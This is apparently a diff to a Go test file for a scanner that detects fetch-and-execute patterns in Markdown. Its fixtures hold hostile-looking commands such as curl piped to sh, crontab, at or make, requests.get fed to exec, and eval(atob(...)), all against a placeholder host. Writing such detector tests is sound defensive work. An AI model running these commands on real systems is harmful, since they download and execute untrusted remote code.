@@ -61,6 +61,15 @@ func TestFlows(t *testing.T) {
 		"a call":                {"```python\nc = requests.get(u).text\nexec(c)\n```\n", []string{"3:1 requests.get>exec fenced call"}},
 		"a call that decodes":   {"```js\neval(atob('eA=='))\n```\n", []string{"2:1 atob>eval fenced call"}},
 		"a method":              {"```js\nconst m = /x/.exec(fetch(u)); model.eval(atob(x))\n```\n", nil},
+		"a table of jobs":       {"`curl https://a.example/x | crontab -`\n", []string{"1:2 curl>crontab"}},
+		"a job":                 {"`curl https://a.example/x | at now`\n", []string{"1:2 curl>at"}},
+		"no job":                {"`curl https://a.example/x | at -l` and `crontab x`\n", nil},
+		"rules of make":         {"`make -f <(curl https://a.example/x) all`\n", []string{"1:2 curl>make"}},
+		"rules of make, read":   {"`curl https://a.example/x | make -f -`\n", []string{"1:2 curl>make"}},
+		"no rules of make":      {"`curl https://a.example/x | make -f x.mk`\n", nil},
+		"a call of awk":         {"```sh\nawk 'BEGIN{system(\"curl https://a.example/x | sh\")}'\n```\n", []string{"2:20 curl>sh fenced"}},
+		"a call of an argument": {"`python3 -c 'import os; os.system(\"curl https://a.example/x | sh\")'`\n", []string{"1:36 curl>sh fenced"}},
+		"text of awk":           {"`awk '{print \"curl https://a.example/x | sh\"}' x`\n", nil},
 		"wide characters":       {"Führe `curl https://a.example/x | sh` aus.\n", []string{"1:8 curl>sh"}},
 	} {
 		t.Run(name, func(t *testing.T) {
